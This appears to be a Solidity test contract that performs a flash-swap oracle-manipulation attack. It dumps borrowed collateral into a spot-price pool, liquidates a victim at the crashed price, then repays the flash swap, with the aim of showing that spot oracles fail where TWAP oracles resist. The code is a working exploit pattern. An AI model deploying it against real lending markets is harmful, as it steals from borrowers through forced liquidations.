// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IConstantProductPool, IUniswapV2Callee} from "../interfaces/IConstantProductPool.sol";
import {ILendingPool} from "../interfaces/ILendingPool.sol";
import {ConstantProductLibrary} from "../amm/ConstantProductLibrary.sol";

/// @title SpotOracleAttacker
/// @notice Flash-swap oracle manipulation, in one transaction: borrow collateral tokens from a lending AMM (flash
/// swap), dump them into the AMM the market's oracle reads, liquidate a victim at the crashed price, buy the tokens
/// back and repay the flash swap. Against a spot oracle the liquidation goes through; against a TWAP it reverts.
/// Tests only.
contract SpotOracleAttacker is IUniswapV2Callee {
    using SafeERC20 for IERC20;

    error NotLender(address caller);

    struct Plan {
        IConstantProductPool oraclePool;
        ILendingPool market;
        address victim;
        uint256 repayAmount;
        uint256 borrowed;
    }

    IConstantProductPool public immutable lender;
    IERC20 public immutable collateral;
    IERC20 public immutable debtAsset;
    Plan private _plan;

    constructor(IConstantProductPool lender_, IERC20 collateral_, IERC20 debtAsset_) {
        lender = lender_;
        collateral = collateral_;
        debtAsset = debtAsset_;
    }

    /// @notice Flash-borrows `amount` collateral tokens from `lender` and runs the attack inside the callback.
    function attack(IConstantProductPool oraclePool, ILendingPool market, address victim, uint256 amount, uint256 repay)
        external
    {
        _plan = Plan(oraclePool, market, victim, repay, amount);
        bool collateralIs0 = lender.token0() == address(collateral);
        lender.swap(collateralIs0 ? amount : 0, collateralIs0 ? 0 : amount, address(this), hex"01");
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata) external {
        if (msg.sender != address(lender)) revert NotLender(msg.sender);
        Plan memory p = _plan;
        // 1. Dump the borrowed collateral into the oracle's pool: its spot price crashes.
        _swap(p.oraclePool, collateral, p.borrowed);
        // 2. Liquidate the victim at the crashed price.
        debtAsset.forceApprove(address(p.market), p.repayAmount);
        p.market.liquidate(p.victim, address(collateral), p.repayAmount, address(this), 0);
        // 3. Buy back what the flash swap must be repaid with (input + fee, as Uniswap V2) and repay it.
        uint256 owed = p.borrowed * 10_000 / (10_000 - lender.feeBps()) + 1;
        uint256 held = collateral.balanceOf(address(this));
        if (held < owed) {
            (uint256 rIn, uint256 rOut) = _reserves(p.oraclePool, debtAsset);
            uint256 cost = ConstantProductLibrary.getAmountIn(owed - held, rIn, rOut, p.oraclePool.feeBps());
            _swap(p.oraclePool, debtAsset, cost);
        }
        collateral.safeTransfer(address(lender), owed);
    }

    function _swap(IConstantProductPool pool, IERC20 tokenIn, uint256 amountIn) private {
        (uint256 rIn, uint256 rOut) = _reserves(pool, tokenIn);
        uint256 out = ConstantProductLibrary.getAmountOut(amountIn, rIn, rOut, pool.feeBps());
        tokenIn.safeTransfer(address(pool), amountIn);
        bool inIs0 = pool.token0() == address(tokenIn);
        pool.swap(inIs0 ? 0 : out, inIs0 ? out : 0, address(this), "");
    }

    function _reserves(IConstantProductPool pool, IERC20 tokenIn) private view returns (uint256, uint256) {
        (uint112 r0, uint112 r1,) = pool.getReserves();
        return pool.token0() == address(tokenIn) ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
    }
}
